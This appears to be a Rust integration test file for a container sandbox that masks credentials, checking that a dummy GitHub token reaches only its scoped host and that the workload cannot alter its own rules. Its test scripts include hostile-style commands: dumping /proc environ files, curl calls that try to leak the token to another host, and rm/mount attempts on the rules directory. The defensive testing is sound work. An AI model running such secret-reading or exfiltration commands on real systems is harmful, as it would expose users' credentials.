//! A real credential never enters a container, and reaches nobody but its own host.

use std::{fs, process::Command};

use origin::Origin;

use crate::setup::{DEBIAN, Run, on_every_engine, read_all};

/// No credential of anybody's.
const TOKEN: &str = "ghp_0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R";

/// `TOKEN` base64-encoded behind `user:`, as Basic has it.
const IN_BASIC: &str = "dXNlcjpnaHBfMGExQjJjM0Q0ZTVGNmc3SDhpOUowazFMMm0zTjRvNVA2cTdS";

fn run(setup: crate::setup::Setup, origin: &Origin) -> Run {
    let run = Run::new(setup)
        .image(DEBIAN)
        .origin(origin, &["api.example.com", "other.example.com"])
        .flags(["--config", "sandbox.yaml"])
        .env("REAL_TOKEN", TOKEN);
    let config = "masked_secrets:\n  GH_TOKEN:\n    value: !env REAL_TOKEN\n    scopes: [api.example.com]\n    headers: [Authorization]\n";
    fs::write(run.path("sandbox.yaml"), config).unwrap();
    run
}

on_every_engine! {
    fn the_real_value_reaches_its_host_and_nothing_else_of_it_is_anywhere(setup) {
        let origin = Origin::start(&["api.example.com"]);
        // The origin sends everything back that it got; the run waits, so that it can be looked at.
        let run = run(setup, &origin);
        let script = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; \
            curl -sS -H \"Authorization: Bearer $GH_TOKEN\" https://api.example.com/echo; \
            curl -sS --compressed -u \"user:$GH_TOKEN\" https://api.example.com/echo; \
            grep -rl \"$(echo ghp_0a1B2c3D)\" /workspace /etc /.cordon 2>/dev/null; touch asked; sleep 3";
        let run = run.sh(script);
        let running = run.start();
        crate::setup::eventually("it has asked", std::time::Duration::from_secs(30), || run.path("asked").exists());

        let name = setup.containers_of(running.pid()).remove(0);
        let mut seen = setup.ask(&["container", "inspect", &name]);
        for process in fs::read_dir("/proc").unwrap().flatten() {
            seen += &String::from_utf8_lossy(&fs::read(process.path().join("cmdline")).unwrap_or_default());
        }
        let place = setup.runtime().join(&name);
        seen += &read_all(&place);
        let ended = running.end();
        assert_eq!(ended.code, 0, "{ended:?}");

        assert_eq!(origin.authorizations(), [format!("Bearer {TOKEN}"), format!("Basic {IN_BASIC}")]);
        seen += &ended.stdout;
        seen += &ended.stderr;
        seen += &run.network_log();
        seen += &fs::read_to_string(run.path("network.jsonl")).unwrap();
        seen += &read_all(&run.path(""));
        for form in [TOKEN, "ghp%5F0a1B2c3D4e5F6g7H", IN_BASIC, "Z2hwXzBhMUIyYzNENGU1"] {
            assert!(!seen.contains(form), "{form} is somewhere: {}", around(&seen, form));
        }
        assert!(ended.stdout.contains("GH_TOKEN=ghp_"), "{ended:?}");
        assert!(run.network_log().contains("[masked: 1]"), "{}", run.network_log());
        assert!(run.network_log().contains("[scrubbed: "), "{}", run.network_log());
    }

    fn a_surrogate_on_its_way_to_another_host_is_an_alarm(setup) {
        let origin = Origin::start(&["*.example.com"]);
        let run = run(setup, &origin).sh(
            "curl -sS -H \"X-Leak: $GH_TOKEN\" https://other.example.com/; echo; curl -sS -u \"x:$GH_TOKEN\" https://other.example.com/; echo; \
             curl -sS \"https://other.example.com/?q=$GH_TOKEN\"",
        );
        let ended = run.succeed();
        assert_eq!(ended.stdout.matches("\"error\":\"surrogate_out_of_scope\"").count(), 3, "{ended:?}");
        assert_eq!(run.network_log().matches("ALARM").count(), 3, "{}", run.network_log());
        assert_eq!(origin.connections(), 0);
    }

    fn the_workload_cannot_change_its_own_rules(setup) {
        // Neither what is there, nor what is not.
        let run = Run::new(setup).sh(
            "echo x > .cordon/network-allowlist.yaml; rm -rf .cordon; mv .cordon elsewhere; mkdir .cordon; ln -s /tmp .cordon; \
             mount -o remount,rw /workspace/.cordon; ls -A .cordon; echo done",
        );
        let ended = run.succeed();
        assert_eq!(ended.stdout, "done\n", "{ended:?}");
        assert!(!run.path(".cordon").exists() && !run.path("elsewhere").exists());

        fs::create_dir(run.path(".cordon")).unwrap();
        fs::write(run.path(".cordon/network-allowlist.yaml"), "domains: []\n").unwrap();
        let ended = run.succeed();
        assert_eq!(ended.stdout, "network-allowlist.yaml\ndone\n", "{ended:?}");
        assert_eq!(fs::read_to_string(run.path(".cordon/network-allowlist.yaml")).unwrap(), "domains: []\n");
    }

    fn git_clones_and_pushes_with_a_masked_token(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let repositories = origin.serve_git(TOKEN);
        let git = |arguments: &[&str]| {
            let output = Command::new("git").args(arguments).current_dir(&repositories).output().unwrap();
            assert!(output.status.success(), "{output:?}");
            String::from_utf8(output.stdout).unwrap()
        };
        git(&["init", "-q", "--bare", "project.git"]);
        git(&["-C", "project.git", "config", "http.receivepack", "true"]);
        let script = "set -e; export HOME=/tmp GIT_TERMINAL_PROMPT=0; cd /tmp; \
            git -c init.defaultBranch=main clone -q \"https://user:$GH_TOKEN@api.example.com/git/project.git\" 2>&1; cd project; \
            git config user.email a@example.com; git config user.name a; echo content > file; git add file; git commit -qm one; git push -q origin HEAD:main 2>&1; \
            cd ..; git clone -q -b main \"https://user:$GH_TOKEN@api.example.com/git/project.git\" again; cat again/file";
        let ended = run(setup, &origin).sh(script).succeed();
        assert!(ended.stdout.ends_with("content\n"), "{ended:?}");
        assert_eq!(git(&["-C", "project.git", "show", "main:file"]), "content\n");
        assert!(!ended.stdout.contains(TOKEN));
    }
}

fn around<'a>(text: &'a str, form: &str) -> &'a str {
    let at = text.find(form).unwrap_or_default();
    let begin = text.floor_char_boundary(at.saturating_sub(120));
    let end = text.ceil_char_boundary((at + 60).min(text.len()));
    &text[begin..end]
}
